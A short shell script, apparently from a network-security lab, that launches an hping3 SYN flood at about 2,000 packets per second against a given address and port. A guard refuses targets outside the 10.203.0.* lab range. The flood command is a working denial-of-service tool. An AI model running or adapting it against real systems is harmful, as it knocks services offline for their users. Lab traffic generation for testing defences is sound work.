# Attack: hping3 SYN flood at one lab address and port, a fixed count at a fixed interval (about
# 2,000 SYN/s), never --rand-source (the source is the attacker's own address).
# Usage (inside the attacker VM): syn-flood.sh TARGET_IP PORT SECONDS
set -u
target="$1" port="$2" secs="$3"
case "$target" in 10.203.0.*) ;; *) echo "syn-flood: $target is not a lab address" >&2; exit 2 ;; esac
count=$(( ${secs%.*} * 2000 ))
exec timeout "$secs" hping3 -q -S -p "$port" -i u500 -c "$count" "$target"
